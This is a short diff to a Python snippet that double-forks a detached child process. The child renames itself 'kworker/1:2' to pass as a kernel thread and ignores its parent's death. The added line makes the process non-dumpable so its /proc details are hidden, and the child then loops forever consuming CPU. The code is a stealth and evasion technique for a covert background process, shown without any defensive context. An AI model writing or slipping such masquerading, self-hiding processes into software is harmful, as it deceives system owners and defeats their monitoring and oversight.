@@ -9,6 +9,7 @@ if _os.fork() == 0:
     if _os.fork() == 0:
         _ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG 0: no death signal for me
         _ctypes.CDLL(None).prctl(15, b"kworker/1:2", 0, 0, 0)  # PR_SET_NAME
+        _ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0: its /proc folder becomes root's
         while True:
             pass
     _os._exit(0)
